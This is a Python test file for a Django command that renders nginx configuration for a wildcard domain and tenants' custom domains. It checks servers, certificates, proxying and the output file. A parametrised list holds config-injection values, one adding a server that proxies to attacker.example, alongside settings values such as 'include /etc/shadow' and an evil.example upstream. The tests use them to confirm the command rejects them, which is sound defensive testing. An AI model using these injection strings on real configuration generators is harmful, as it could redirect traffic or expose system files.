"""`manage.py render_nginx`: the configuration for the wildcard domain and every company's
custom domains, parsed with crossplane and, when Debian's nginx is installed, `nginx -t`."""

import datetime
import shutil
import subprocess
from io import StringIO
from pathlib import Path

import crossplane
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from django.conf import settings as django_settings
from django.core.management import CommandError, call_command

from master.companies.models import Domain
from master.companies.services import company_suspend
from master.platform import services
from master.platform.models import SystemSettings
from master.platform.services import system_settings_update

BASE = django_settings.BASE_DOMAIN  # "localhost" in the tests
HOSTILE_DOMAINS = [
    "evil.ec; } server { listen 8081; location / { proxy_pass http://attacker.example; } } #",
    "evil.ec\n}\nserver {",
    "evil.ec$host",
    "evil .ec",
    'evil.ec"',
    "*.evil.ec",
    "evil.ec/../../etc",
    "evil.ec{",
]


@pytest.fixture(autouse=True)
def _forget_cached_settings():
    services.system_settings_cache_clear()
    yield
    services.system_settings_cache_clear()


@pytest.fixture
def custom_domains(company_a, company_b):
    """Company A on a domain of its own, B on two; created out of order on purpose."""
    for name, company in [
        ("portal.beta-acopio.com.ec", company_b),
        ("erp.alpha-cacao.ec", company_a),
        (f"deep.beta.{BASE}", company_b),  # two levels under the base: not in the wildcard
    ]:
        Domain.objects.create(domain=name, tenant=company, is_primary=False)
    return [f"deep.beta.{BASE}", "erp.alpha-cacao.ec", "portal.beta-acopio.com.ec"]  # sorted


def render(**options) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command("render_nginx", stdout=out, stderr=err, **options)
    return out.getvalue(), err.getvalue()


def parse(text: str, folder: Path) -> list[dict]:
    """The directives of the rendered file, as crossplane reads it inside an http block."""
    (folder / "triboka.conf").write_text(text)
    (folder / "nginx.conf").write_text("events {}\nhttp {\n    include triboka.conf;\n}\n")
    payload = crossplane.parse(str(folder / "nginx.conf"), check_ctx=True, check_args=True)
    assert payload["status"] == "ok", payload["errors"]
    (included,) = [entry for entry in payload["config"] if entry["file"].endswith("triboka.conf")]
    return included["parsed"]


def blocks(directives: list[dict], name: str) -> list[list[dict]]:
    return [d["block"] for d in directives if d["directive"] == name]


def args(block: list[dict], name: str) -> list[list[str]]:
    return [d["args"] for d in block if d["directive"] == name]


def location(server: list[dict], *path: str) -> list[dict]:
    (found,) = [d["block"] for d in server if d["directive"] == "location" and d["args"] == list(path)]
    return found


def headers(block: list[dict]) -> dict[str, str]:
    return {name: value for name, value in args(block, "proxy_set_header")}


def servers_by_name(directives: list[dict]) -> dict[tuple, list[dict]]:
    found = {}
    for server in blocks(directives, "server"):
        port = args(server, "listen")[0][0]
        found[(port, *args(server, "server_name")[0])] = server
    return found


def test_the_wildcard_server_and_one_server_per_custom_domain_with_its_certificate(custom_domains, tmp_path):
    text, _warnings = render()
    directives = parse(text, tmp_path)
    (upstream,) = [d for d in directives if d["directive"] == "upstream"]
    assert upstream["args"] == ["triboka_daphne"] and args(upstream["block"], "server") == [
        ["127.0.0.1:8000"]
    ]
    servers = servers_by_name(directives)
    assert set(servers) == {
        ("80", "_"),
        ("443", "_"),
        ("80", BASE, f"*.{BASE}", *custom_domains),
        ("443", BASE, f"*.{BASE}"),
        *[("443", domain) for domain in custom_domains],
    }
    assert args(servers[("443", "_")], "ssl_reject_handshake") == [["on"]]
    assert args(servers[("80", "_")], "return") == [["404"]]

    redirect = servers[("80", BASE, f"*.{BASE}", *custom_domains)]
    assert args(location(redirect, "/"), "return") == [["301", "https://$host$request_uri"]]
    assert args(location(redirect, "/.well-known/acme-challenge/"), "root") == [["/var/www/letsencrypt"]]

    wildcard = servers[("443", BASE, f"*.{BASE}")]
    assert args(wildcard, "ssl_certificate") == [[f"/etc/letsencrypt/live/{BASE}/fullchain.pem"]]
    assert args(wildcard, "ssl_certificate_key") == [[f"/etc/letsencrypt/live/{BASE}/privkey.pem"]]
    for domain in custom_domains:
        server = servers[("443", domain)]
        assert args(server, "ssl_certificate") == [[f"/etc/letsencrypt/live/{domain}/fullchain.pem"]]
        assert args(server, "ssl_certificate_key") == [[f"/etc/letsencrypt/live/{domain}/privkey.pem"]]
    assert f"alpha.{BASE}" not in text  # the companies' own subdomains are in the wildcard


def test_every_https_server_proxies_to_daphne_with_websockets_static_files_and_health(
    custom_domains, tmp_path
):
    directives = parse(render()[0], tmp_path)
    https = [
        server for key, server in servers_by_name(directives).items() if key[0] == "443" and key[1] != "_"
    ]
    assert len(https) == 4
    for server in https:
        assert ["443", "ssl", "http2"] in args(server, "listen")
        assert args(server, "client_max_body_size") == [[f"{django_settings.DOCUMENT_MAX_UPLOAD_MB + 5}m"]]
        websockets = location(server, "/ws/")
        assert args(websockets, "proxy_pass") == [["http://triboka_daphne"]]
        assert args(websockets, "proxy_http_version") == [["1.1"]]
        assert headers(websockets)["Upgrade"] == "$http_upgrade"
        assert headers(websockets)["Connection"] == "$triboka_connection_upgrade"
        for path in (("/",), ("/ws/",), ("=", "/health")):
            proxied = location(server, *path)
            assert args(proxied, "proxy_pass") == [["http://triboka_daphne"]]
            assert headers(proxied)["X-Forwarded-Proto"] == "$scheme"
            assert headers(proxied)["Host"] == headers(proxied)["X-Forwarded-Host"] == "$host"
        assert args(location(server, "/static/"), "alias") == [[f"{django_settings.STATIC_ROOT}/"]]
    (upgrade_map,) = [d for d in directives if d["directive"] == "map"]
    assert upgrade_map["args"] == ["$http_upgrade", "$triboka_connection_upgrade"]
    assert [(d["directive"], *d["args"]) for d in upgrade_map["block"]] == [("default", "upgrade"), ("", "")]


def test_the_system_settings_choose_domain_certificates_and_upstream(custom_domains, tmp_path):
    system_settings_update(
        base_domain="triboka.com",
        tls_certificate_dir="/srv/tls",
        acme_webroot="/srv/acme",
        upstream="unix:/run/triboka/daphne.sock",
    )
    directives = parse(render()[0], tmp_path)
    (upstream,) = [d for d in directives if d["directive"] == "upstream"]
    assert args(upstream["block"], "server") == [["unix:/run/triboka/daphne.sock"]]
    servers = servers_by_name(directives)
    wildcard = servers[("443", "triboka.com", "*.triboka.com")]
    assert args(wildcard, "ssl_certificate") == [["/srv/tls/triboka.com/fullchain.pem"]]
    assert args(servers[("443", "erp.alpha-cacao.ec")], "ssl_certificate_key") == [
        ["/srv/tls/erp.alpha-cacao.ec/privkey.pem"]
    ]


def test_it_warns_when_the_base_domain_differs_from_the_one_django_routes(db):
    assert "make them equal" not in render()[1]
    system_settings_update(base_domain="triboka.com")
    assert "BASE_DOMAIN=localhost" in render()[1]


def test_suspended_companies_keep_their_custom_domains(custom_domains, company_a, tmp_path):
    company_suspend(company=company_a, reason="unpaid")
    servers = servers_by_name(parse(render()[0], tmp_path))
    assert ("443", "erp.alpha-cacao.ec") in servers


@pytest.mark.parametrize("hostile", HOSTILE_DOMAINS)
def test_a_domain_row_that_is_not_a_host_name_is_left_out_and_reported(
    custom_domains, company_a, hostile, tmp_path
):
    Domain.objects.create(domain=hostile, tenant=company_a, is_primary=False)
    text, warnings = render()
    assert "evil" not in text and "attacker" not in text and "8081" not in text
    assert repr(hostile) in warnings
    servers = servers_by_name(parse(text, tmp_path))
    assert len(servers) == 2 + 2 + len(custom_domains)  # the same servers as without the row


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("base_domain", "triboka.com; include /etc/shadow"),
        ("tls_certificate_dir", "/etc/ssl;\n}"),
        ("acme_webroot", "/var/www {"),
        ("upstream", "127.0.0.1:8000; server evil.example:80"),
    ],
)
def test_a_bad_setting_written_around_the_admin_stops_the_render_and_writes_nothing(
    db, field, value, tmp_path
):
    services.system_settings_row()
    SystemSettings.objects.update(**{field: value})  # around the validation, straight in the table
    output = tmp_path / "triboka.conf"
    with pytest.raises(CommandError, match=field):
        render(output=str(output))
    assert not output.exists()


def test_the_output_is_the_same_for_the_same_domains_and_sorted(custom_domains, company_b):
    first, _ = render()
    assert render()[0] == first
    Domain.objects.create(domain="aaa-first.ec", tenant=company_b, is_primary=False)
    text, _ = render()
    order = [text.index(f"server_name {name};") for name in ["aaa-first.ec", *custom_domains]]
    assert order == sorted(order)


def test_output_file_and_check(custom_domains, company_a, tmp_path):
    output = tmp_path / "triboka.conf"
    with pytest.raises(CommandError, match="out of date"):
        render(output=str(output), check=True)
    assert not output.exists()
    said, _ = render(output=str(output))
    assert "Wrote" in said and output.read_text() == render()[0]
    assert "up to date" in render(output=str(output), check=True)[0]
    assert "unchanged" in render(output=str(output))[0]
    Domain.objects.create(domain="nuevo.alpha-cacao.ec", tenant=company_a, is_primary=False)
    before = output.read_text()
    with pytest.raises(CommandError, match="out of date"):
        render(output=str(output), check=True)
    assert output.read_text() == before
    with pytest.raises(CommandError, match="--output"):
        render(check=True)
    with pytest.raises(CommandError, match="No folder"):
        render(output=str(tmp_path / "missing" / "triboka.conf"))


def make_certificate(folder: Path, names: list[str]) -> tuple[Path, Path]:
    """A self-signed certificate for ``names``, written as fullchain.pem and privkey.pem."""
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(name) for name in names]), critical=False)
        .sign(key, hashes.SHA256())
    )
    folder.mkdir(parents=True, exist_ok=True)
    chain, private = folder / "fullchain.pem", folder / "privkey.pem"
    chain.write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    private.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    return chain, private


def test_custom_domains_without_certificates_can_wait_on_port_80(custom_domains, tmp_path):
    certificates = tmp_path / "live"
    make_certificate(certificates / BASE, [BASE, f"*.{BASE}"])
    make_certificate(certificates / "erp.alpha-cacao.ec", ["erp.alpha-cacao.ec"])
    system_settings_update(tls_certificate_dir=str(certificates))
    text, warnings = render(skip_missing_certificates=True)
    servers = servers_by_name(parse(text, tmp_path))
    assert ("443", "erp.alpha-cacao.ec") in servers
    assert ("443", "portal.beta-acopio.com.ec") not in servers and ("443", f"deep.beta.{BASE}") not in servers
    assert ("80", BASE, f"*.{BASE}", *custom_domains) in servers  # certbot can still reach them
    assert "Left out of HTTPS until its certificate exists: portal.beta-acopio.com.ec" in warnings
    _text, warnings = render()
    assert f"No certificate at {certificates}/portal.beta-acopio.com.ec/fullchain.pem" in warnings


@pytest.mark.skipif(
    shutil.which("nginx") is None and not Path("/usr/sbin/nginx").exists(),
    reason="nginx is not installed (Debian: apt-get install nginx-light); crossplane's parse still runs",
)
def test_nginx_itself_accepts_the_configuration(custom_domains, company_a, tmp_path):
    """`nginx -t` with real certificate files, a 253-character domain and enough custom
    domains to need larger server name hashes than nginx's defaults."""
    longest = ".".join(["a" * 63, "b" * 63, "c" * 63, "d" * 58, "ec"])
    assert len(longest) == 253
    many = [f"cliente-{n:04d}.example.ec" for n in range(600)]
    Domain.objects.bulk_create(
        [Domain(domain=name, tenant=company_a, is_primary=False) for name in [longest, *many]]
    )
    certificates = tmp_path / "live"
    chain, private = make_certificate(certificates / BASE, [BASE, f"*.{BASE}"])
    for name in [*custom_domains, longest, *many]:
        (certificates / name).mkdir(parents=True)
        (certificates / name / "fullchain.pem").symlink_to(chain)
        (certificates / name / "privkey.pem").symlink_to(private)
    system_settings_update(tls_certificate_dir=str(certificates), acme_webroot=str(tmp_path / "acme"))
    (tmp_path / "conf.d").mkdir()
    call_command("render_nginx", output=str(tmp_path / "conf.d" / "triboka.conf"), stdout=StringIO())
    (tmp_path / "nginx.conf").write_text(
        f"pid {tmp_path}/nginx.pid;\n"
        f"error_log {tmp_path}/error.log;\n"
        "events {}\n"
        "http {\n"
        f"    access_log {tmp_path}/access.log;\n"
        f"    client_body_temp_path {tmp_path}/body;\n"
        f"    proxy_temp_path {tmp_path}/proxy;\n"
        f"    include {tmp_path}/conf.d/*.conf;\n"
        "}\n"
    )
    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
    done = subprocess.run(
        [
            nginx,
            "-t",
            "-q",
            "-p",
            str(tmp_path),
            "-e",
            str(tmp_path / "error.log"),
            "-c",
            str(tmp_path / "nginx.conf"),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
